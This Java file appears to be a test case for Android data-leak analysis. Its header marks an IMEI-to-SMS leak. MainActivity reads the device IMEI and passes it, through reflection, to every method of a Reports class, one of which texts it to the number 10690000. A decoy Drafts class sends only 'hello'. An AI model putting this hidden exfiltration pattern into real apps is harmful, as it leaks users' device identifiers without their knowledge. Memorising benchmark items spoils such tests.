// about       Each method that the class declares is called with the value; one of them sends it.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String id = phone.getDeviceId();
    try {
      // All jobs of one class.
      for (Method job : Reports.class.getDeclaredMethods()) {
        job.invoke(null, id);
      }
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

class Reports {
  static String last;

  static void keep(String text) {
    last = text;
  }

  static void send(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class Drafts {
  static String last;

  static void keep(String text) {
    last = text;
  }

  static void greet(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, "hello", null, null);
  }
}
